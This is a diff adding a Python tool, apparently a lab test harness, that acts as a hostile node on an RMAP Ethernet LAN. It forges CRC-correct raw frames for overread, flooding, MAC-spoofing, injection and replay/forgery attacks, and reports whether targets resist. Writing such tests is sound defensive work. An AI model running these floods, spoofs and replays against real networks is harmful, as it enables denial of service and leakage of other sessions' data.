@@ -1,0 +1,288 @@
+#!/usr/bin/env python3
+"""rmapforge: a hostile node on an RMAP LAN, for the lab's attack checks.
+
+It speaks RMAP (docs/rmap-protocol.md) from user space over a packet
+socket: frames with correct CRCs, from its own address or from addresses
+it invents. Each subcommand is one attack; it prints what came back and
+exits 0 when the target behaved as a hardened node must, 1 when not.
+
+  rmapforge.py overread IFACE SERVER     sizes that wrap a 32-bit check
+  rmapforge.py bcast-ping IFACE          a ping to everyone: nobody answers
+  rmapforge.py join-flood IFACE SERVER N N JOINs at once from one address
+  rmapforge.py mac-flood IFACE SERVER N  JOINs from N invented addresses
+  rmapforge.py inject IFACE DST N        N JOINs and pings, answers not awaited
+  rmapforge.py keyed IFACE SERVER N      against a keyed LAN: replays and forgeries
+
+The key, when there is one, is not known to it: with a key configured,
+what it sends must be dropped unanswered.
+"""
+
+import os
+import socket
+import struct
+import sys
+import time
+
+ETHERTYPE = int(os.environ.get("RMAP_ETHERTYPE", "0x88B5"), 16)
+VERSION = 2
+HDR = struct.Struct(">BBBBIIHHIIHHIQ24s16s")
+HDR_LEN = HDR.size
+ADVERTISE, SOLICIT, JOIN, LEAVE, WRITE, READ, READ_RESP, ACK, PING, PONG = range(1, 11)
+E_INVAL = 1
+
+
+def _crc32c_table():
+    table = []
+    for i in range(256):
+        c = i
+        for _ in range(8):
+            c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
+        table.append(c)
+    return table
+
+
+CRC_TABLE = _crc32c_table()
+
+
+def crc32c(data, crc=0xFFFFFFFF):
+    for b in data:
+        crc = CRC_TABLE[(crc ^ b) & 0xFF] ^ (crc >> 8)
+    return crc
+
+
+def frame(mtype, session, seq, body=b"", payload=b"", status=0, key_id=0, counter=0,
+          tag=b""):
+    """One RMAP frame (no Ethernet header), sealed with its CRC."""
+    body = body.ljust(24, b"\0")
+    fields = [VERSION, mtype, status, 0, session, seq, 0, 1, 0, len(payload),
+              len(payload), key_id, 0, counter, body, tag.ljust(16, b"\0")]
+    hdr = HDR.pack(*fields)
+    crc = crc32c(hdr[:28] + b"\0\0\0\0" + hdr[32:] + payload) ^ 0xFFFFFFFF
+    fields[12] = crc
+    return HDR.pack(*fields) + payload
+
+
+def parse(data):
+    """(header fields as a dict, payload), or None for a frame that fails its CRC."""
+    if len(data) < HDR_LEN:
+        return None
+    f = HDR.unpack(data[:HDR_LEN])
+    h = dict(zip(("version", "type", "status", "flags", "session", "seq", "frag_index",
+                  "frag_count", "frag_offset", "total_len", "frag_len", "key_id", "crc",
+                  "counter", "body", "tag"), f))
+    payload = data[HDR_LEN:HDR_LEN + h["frag_len"]]
+    crc = crc32c(data[:28] + b"\0\0\0\0" + data[32:HDR_LEN] + payload) ^ 0xFFFFFFFF
+    return (h, payload) if crc == h["crc"] else None
+
+
+def mac_bytes(mac):
+    return bytes(int(x, 16) for x in mac.split(":"))
+
+
+def join_body(pages, lease_ms=1000, client_id=0x666):
+    return struct.pack(">QIHHQ", pages, lease_ms, 1500, 0, client_id)
+
+
+def page_body(offset, size, wseq=0):
+    return struct.pack(">QIIQ", offset, size, 0, wseq)
+
+
+class Node:
+    def __init__(self, iface):
+        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE))
+        self.sock.bind((iface, ETHERTYPE))
+        self.mac = self.sock.getsockname()[4]
+        self.seq = 0x51000000
+
+    def send(self, dst, rmap, src=None):
+        eth = mac_bytes(dst) + (src or self.mac) + struct.pack(">H", ETHERTYPE)
+        self.sock.send(eth + rmap)
+
+    def send_raw(self, whole):
+        """A frame as captured, Ethernet header and all: a replay."""
+        self.sock.send(whole)
+
+    def sniff(self, timeout, want):
+        """The first whole frame (Ethernet header on) for which @want(header) holds."""
+        end = time.monotonic() + timeout
+        while time.monotonic() < end:
+            self.sock.settimeout(max(end - time.monotonic(), 0.01))
+            try:
+                data, addr = self.sock.recvfrom(65536)
+            except socket.timeout:
+                break
+            parsed = addr[2] != socket.PACKET_OUTGOING and parse(data)
+            if parsed and want(parsed[0]):
+                return data
+        return None
+
+    def recv(self, timeout):
+        """Every RMAP frame addressed to us within @timeout seconds."""
+        got = []
+        end = time.monotonic() + timeout
+        while True:
+            left = end - time.monotonic()
+            if left <= 0:
+                return got
+            self.sock.settimeout(left)
+            try:
+                data, addr = self.sock.recvfrom(65536)
+            except socket.timeout:
+                return got
+            if addr[2] == socket.PACKET_OUTGOING:
+                continue
+            parsed = parse(data)
+            if parsed:
+                got.append(parsed)
+
+    def ask(self, dst, mtype, session, body=b"", payload=b"", timeout=2.0):
+        """Send a request; the first answer to its seq, or None."""
+        self.seq += 1
+        seq = self.seq
+        self.send(dst, frame(mtype, session, seq, body, payload))
+        end = time.monotonic() + timeout
+        while time.monotonic() < end:
+            for h, p in self.recv(end - time.monotonic()):
+                if h["seq"] == seq and h["type"] in (ACK, READ_RESP, PONG):
+                    return h, p
+        return None
+
+
+def overread(iface, server):
+    """Reads whose size wraps `offset_in_page + size` in 32 bits.
+
+    A server that checks in 32 bits answers past the page it holds (other
+    sessions' data) or overruns its frame array; a sound one says E_INVAL.
+    """
+    n = Node(iface)
+    ans = n.ask(server, JOIN, 0, join_body(256, 30000))
+    if not ans or ans[0]["type"] != ACK or ans[0]["status"] != 0:
+        print("overread: JOIN not granted:", ans and ans[0])
+        return 1
+    session = ans[0]["session"]
+    print(f"overread: session {session:08x}")
+    ok = True
+    for size in (0xFFFFFA59, 0xFFFFF001, 0xFFFFFFFF):
+        ans = n.ask(server, READ, session, page_body(4095, size))
+        shown = ans and (ans[0]["type"], ans[0]["status"], len(ans[1]))
+        print(f"overread: READ 4095+{size:#x}: {shown}")
+        if not ans or ans[0]["type"] != ACK or ans[0]["status"] != E_INVAL or ans[1]:
+            ok = False
+    ans = n.ask(server, PING, 0, payload=b"still there?" * 4)
+    print("overread: server answers a ping after:", bool(ans))
+    ok = ok and ans is not None
+    ans = n.ask(server, LEAVE, session)
+    print("overread: LEAVE:", ans and ans[0]["status"])
+    return 0 if ok else 1
+
+
+def bcast_ping(iface):
+    """A ping to the broadcast address: every node would answer the one frame."""
+    n = Node(iface)
+    n.seq += 1
+    n.send("ff:ff:ff:ff:ff:ff", frame(PING, 0, n.seq, payload=b"x" * 64))
+    pongs = [h for h, _ in n.recv(2.0) if h["type"] == PONG]
+    print(f"bcast-ping: {len(pongs)} answers")
+    return 0 if not pongs else 1
+
+
+def join_flood(iface, server, count):
+    """@count JOINs at once from one address, faster than a server applies them."""
+    n = Node(iface)
+    frames = []
+    for _ in range(count):
+        n.seq += 1
+        frames.append(frame(JOIN, 0, n.seq, join_body(1)))
+    for f in frames:
+        n.send(server, f)
+    answers = [h for h, _ in n.recv(5.0) if h["type"] == ACK]
+    busy = sum(1 for h in answers if h["status"] == 5)
+    print(f"join-flood: {count} sent, {len(answers)} answered, {busy} E_BUSY")
+    return 0
+
+
+def mac_flood(iface, server, count):
+    """JOINs from @count invented addresses: each would take a peer-table entry."""
+    n = Node(iface)
+    for i in range(count):
+        src = bytes([0x02, 0x66, 0x00, (i >> 16) & 0xFF, (i >> 8) & 0xFF, i & 0xFF])
+        n.seq += 1
+        n.send(server, frame(JOIN, 0, n.seq, join_body(1)), src=src)
+    print(f"mac-flood: {count} invented addresses")
+    return 0
+
+
+def inject(iface, dst, count):
+    """Requests that should never reach the node behind @dst."""
+    n = Node(iface)
+    for _ in range(count):
+        n.seq += 1
+        n.send(dst, frame(JOIN, 0, n.seq, join_body(1)))
+        n.seq += 1
+        n.send(dst, frame(PING, 0, n.seq, payload=b"y" * 32))
+    answers = n.recv(1.0)
+    print(f"inject: {2 * count} sent, {len(answers)} answers")
+    return 0 if not answers else 1
+
+
+def keyed(iface, server, count):
+    """On a LAN whose nodes share a key we do not have.
+
+    Replays @server's own advertisement (to it, and to everyone: a node
+    that heard it takes it once only); sends requests unsealed, and
+    sealed under the key id the LAN uses with a tag we had to guess, from
+    our address and from invented ones, and an advertisement in
+    @server's name. Nothing may be answered.
+    """
+    n = Node(iface)
+    adv = n.sniff(10.0, lambda h: h["type"] == ADVERTISE and h["key_id"])
+    if not adv:
+        print("keyed: no sealed advertisement heard")
+        return 1
+    key_id = parse(adv[14:])[0]["key_id"]
+    print(f"keyed: the LAN's key id is {key_id:04x}")
+    n.send_raw(adv)
+    n.send_raw(mac_bytes(server) + adv[6:])
+    garbage = os.urandom(16)
+    for i in range(count):
+        n.seq += 1
+        n.send(server, frame(JOIN, 0, n.seq, join_body(1)))
+        n.seq += 1
+        n.send(server, frame(PING, 0, n.seq, payload=b"z" * 32, key_id=key_id,
+                             counter=time.time_ns(), tag=garbage))
+        n.seq += 1
+        n.send(server, frame(JOIN, 0, n.seq, join_body(1), key_id=key_id,
+                             counter=time.time_ns(), tag=os.urandom(16)))
+        src = bytes([0x02, 0x77, 0x00, 0x00, (i >> 8) & 0xFF, i & 0xFF])
+        n.send(server, frame(JOIN, 0, n.seq, join_body(1), key_id=key_id,
+                             counter=time.time_ns(), tag=garbage), src=src)
+    # An advertisement in the server's name, to everyone.
+    body = struct.pack(">IIIHHHHI", 1 << 20, 1 << 20, 0, 1000, 64, 1500, 0, 0)
+    n.send("ff:ff:ff:ff:ff:ff", frame(ADVERTISE, 0x0BADF00D, 0, body, key_id=key_id,
+                                      counter=time.time_ns(), tag=garbage),
+           src=mac_bytes(server))
+    answers = [h for h, _ in n.recv(2.0) if h["type"] in (ACK, PONG, READ_RESP)]
+    print(f"keyed: {4 * count + 3} forged or replayed, {len(answers)} answers")
+    return 0 if not answers else 1
+
+
+def main(argv):
+    cmd, args = argv[1], argv[2:]
+    if cmd == "overread":
+        return overread(*args)
+    if cmd == "bcast-ping":
+        return bcast_ping(*args)
+    if cmd == "join-flood":
+        return join_flood(args[0], args[1], int(args[2]))
+    if cmd == "mac-flood":
+        return mac_flood(args[0], args[1], int(args[2]))
+    if cmd == "inject":
+        return inject(args[0], args[1], int(args[2]))
+    if cmd == "keyed":
+        return keyed(args[0], args[1], int(args[2]))
+    print(__doc__)
+    return 2
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
